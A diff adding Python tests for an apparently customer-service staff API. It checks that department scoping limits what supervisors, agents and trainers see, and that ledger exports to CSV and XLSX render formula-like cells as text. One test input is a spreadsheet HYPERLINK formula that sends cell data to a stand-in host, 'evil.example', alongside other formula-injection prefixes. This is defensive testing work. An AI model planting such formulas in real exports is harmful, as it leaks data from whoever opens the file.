@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import datetime as dt
+import io
+import uuid
 from pathlib import Path
 
 import aiohttp
@@ -59,3 +63,85 @@ async def test_panes_are_served_with_a_strict_policy_and_foreign_origins_get_no_
             assert r.status == 400
         async with s.get(url, headers={"Origin": lh.base_url}) as r:
             assert r.status == 200 and r.headers["Access-Control-Allow-Origin"] == lh.base_url
+
+
+async def _staff_token(h, departments: list[str], role: str) -> str:
+    username, _ = await h.make_staff(departments, role)
+    return await h.staff_token(username)
+
+
+async def test_department_scope_on_alerts_drafts_unanswered_history_and_ledger(lh):
+    mark = uuid.uuid4().hex[:8]
+    mine, other = "housing-fund", "taxation"
+    t = dt.datetime.now(dt.UTC)
+    for dep in (mine, other):
+        await lh.store.alerts.insert_one({"kind": "first_response_late", "department": dep, "mark": mark, "ts": t})
+        await lh.store.audit.insert_one({"kind": "forbidden_words", "department": dep, "text": f"{mark} {dep}",
+                                         "ts": t})
+        await lh.store.kb_drafts.insert_one({"_id": f"d-{mark}-{dep}", "status": "pending", "department": dep,
+                                             "question": mark, "created_at": t})
+        await lh.store.unanswered.insert_one({"_id": f"u-{mark}-{dep}", "status": "open", "department": dep,
+                                              "question": mark, "deadline": "2099-01-01", "count": 1,
+                                              "first_asked": t})
+        await lh.store.ledger.insert_one({"_id": f"L-{mark}-{dep}", "problem": mark, "department": dep,
+                                          "status": "open", "created_at": t, "history": [],
+                                          "created_by": {"id": "someone"}})
+    sup = await _staff_token(lh, [mine], "supervisor")
+    agent = await _staff_token(lh, [mine], "agent")
+    trainer = await _staff_token(lh, [], "trainer")
+
+    async def departments(token: str, path: str, key: str) -> set[str]:
+        status, body = await lh.http("GET", path, token=token)
+        assert status == 200, (path, body)
+        return {d.get("department") for d in body[key] if mark in str(d)}
+
+    status, body = await lh.http("GET", "/api/v1/alerts", token=sup)
+    assert {a["department"] for a in body["alerts"] if a.get("mark") == mark} == {mine}
+    assert {a["department"] for a in body["forbidden_words"] if mark in a["text"]} == {mine}
+    for token in (sup, trainer):
+        want = {mine} if token == sup else {mine, other}
+        assert await departments(token, "/api/v1/trainer/drafts", "drafts") == want
+        assert await departments(token, "/api/v1/trainer/unanswered", "unanswered") == want
+        # asking for another department never widens the scope
+        narrowed = await departments(token, f"/api/v1/trainer/unanswered?department={other}", "unanswered")
+        assert narrowed == ({other} if token == trainer else set())
+        assert await departments(token, f"/api/v1/trainer/drafts?department={other}", "drafts") == narrowed
+    for token in (sup, agent):
+        assert await departments(token, "/api/v1/ledger", "entries") == {mine}
+        assert await departments(token, f"/api/v1/ledger?department={other}", "entries") == set()
+        status, _ = await lh.http("GET", f"/api/v1/ledger/L-{mark}-{other}", token=token)
+        assert status == 404
+        status, text = await lh.http("GET", "/api/v1/ledger/export?format=csv", token=token)
+        assert f"L-{mark}-{mine}" in text and f"L-{mark}-{other}" not in text
+    assert await departments(trainer, "/api/v1/ledger", "entries") == {mine, other}
+    # an agent still reads the entries they registered themselves, whatever their department
+    status, body = await lh.http("POST", "/api/v1/ledger", token=agent, json={"problem": f"{mark} 自己登记",
+                                                                            "department": other})
+    assert status == 201
+    assert await departments(agent, "/api/v1/ledger", "entries") == {mine, other}
+    status, body = await lh.http("GET", "/api/v1/trainer/history", token=sup)
+    assert status == 200 and body["history"] == []  # change history names no department: bot-wide roles only
+
+
+async def test_exported_formulas_are_text(lh):
+    token = await _staff_token(lh, ["*"], "supervisor")
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    status, body = await lh.http("POST", "/api/v1/ledger", token=token, json={
+        "problem": formula, "plan": "+1+2", "owner": "@SUM(1)", "found_where": "-3", "found_by": "\t=1"})
+    assert status == 201
+    eid = body["entry"]["id"]
+    headers = {"Authorization": f"Bearer {token}"}
+    async with aiohttp.ClientSession() as s:
+        async with s.get(f"{lh.base_url}/api/v1/ledger/export?format=xlsx", headers=headers) as r:
+            data = await r.read()
+        async with s.get(f"{lh.base_url}/api/v1/ledger/export?format=csv", headers=headers) as r:
+            text = (await r.read()).decode("utf-8-sig")
+    from openpyxl import load_workbook
+
+    row = next(r for r in load_workbook(io.BytesIO(data)).active.iter_rows() if r[0].value == eid)
+    cells = {c.value: c.data_type for c in row if c.value}
+    assert cells["'" + formula] == "s" and cells["'+1+2"] == "s" and cells["'@SUM(1)"] == "s"
+    assert cells["'-3"] == "s" and cells["'\t=1"] == "s"
+    assert not any(v.startswith(("=", "+", "-", "@", "\t")) for v in cells if isinstance(v, str))
+    line = next(csv.reader(io.StringIO(text[text.index(eid):])))
+    assert line[1] == "'" + formula and "'@SUM(1)" in line
